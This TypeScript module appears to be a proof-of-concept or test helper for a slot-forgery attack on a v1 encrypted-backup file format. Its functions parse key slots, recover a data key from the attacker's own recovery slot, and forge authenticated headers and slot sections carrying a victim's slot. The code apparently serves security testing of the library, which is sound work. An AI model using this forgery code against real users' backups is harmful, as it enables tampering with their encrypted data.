// What an attacker who made their own backup can do with it, written independently of the library
// (node:crypto, from the format text in the README): recover their own data key from their own
// recovery slot, then build files whose header and slot section authenticate under that key while
// carrying any backup id and any slots — e.g. a copy of the victim's slot.
import { createDecipheriv, createHmac, hkdfSync } from 'node:crypto';

const MAGIC = Buffer.from('424b44460d0a1a0a', 'hex');
const utf8 = (s: string) => Buffer.from(s, 'utf8');
const hkdf = (ikm: Uint8Array, salt: Uint8Array, info: string) =>
  new Uint8Array(hkdfSync('sha256', ikm, salt, utf8(info), 32));
const hmac = (key: Uint8Array, ...parts: Uint8Array[]) => {
  const h = createHmac('sha256', key);
  for (const p of parts) h.update(p);
  return new Uint8Array(h.digest());
};

/** The raw slots of a v1 file (`type ‖ len ‖ body` each), in file order. */
export function rawSlots(file: Uint8Array): Uint8Array[] {
  const out: Uint8Array[] = [];
  let o = 93;
  for (let i = 0; i < file[92]!; i++) {
    const len = (file[o + 1]! << 8) | file[o + 2]!;
    out.push(file.slice(o, o + 3 + len));
    o += 3 + len;
  }
  return out;
}

/** The attacker's own data key, from their own 64-digit recovery slot (no Argon2 needed). */
export function dekFromRecoverySlot(file: Uint8Array, digits: string): Uint8Array {
  const slot = rawSlots(file).find((s) => s[0] === 0x02);
  if (!slot) throw new Error('no recovery slot');
  const body = slot.subarray(3);
  const kek = hkdf(utf8(digits.replace(/ /g, '')), body.subarray(1, 17), 'backup-kdf/v1/kek/recovery');
  const d = createDecipheriv('aes-256-gcm', kek, new Uint8Array(12), { authTagLength: 16 });
  d.setAAD(Buffer.concat([utf8('backup-kdf/v1/wrap'), Buffer.of(0x02), body.subarray(0, 17)]));
  d.setAuthTag(body.subarray(49, 65));
  return new Uint8Array(Buffer.concat([d.update(body.subarray(17, 49)), d.final()]));
}

/**
 * A header and slot section that authenticate under `dek`: `template`'s header with `backupId`,
 * the given slots, a fresh header tag and slots MAC. (No payload: unlocking reads only these.)
 */
export function forgePreamble(
  template: Uint8Array,
  dek: Uint8Array,
  backupId: Uint8Array,
  slots: readonly Uint8Array[],
): Uint8Array {
  const prefix = template.slice(0, 60);
  prefix.set(backupId, 12);
  const header = Buffer.concat([
    prefix,
    hmac(hkdf(dek, new Uint8Array(0), 'backup-kdf/v1/header-mac'), prefix),
  ]);
  const section = Buffer.concat([Buffer.of(slots.length), ...slots]);
  const mac = hmac(
    hkdf(dek, new Uint8Array(0), 'backup-kdf/v1/slots-mac'),
    MAGIC,
    Buffer.of(1),
    backupId,
    section,
  );
  return new Uint8Array(Buffer.concat([header, section, mac]));
}
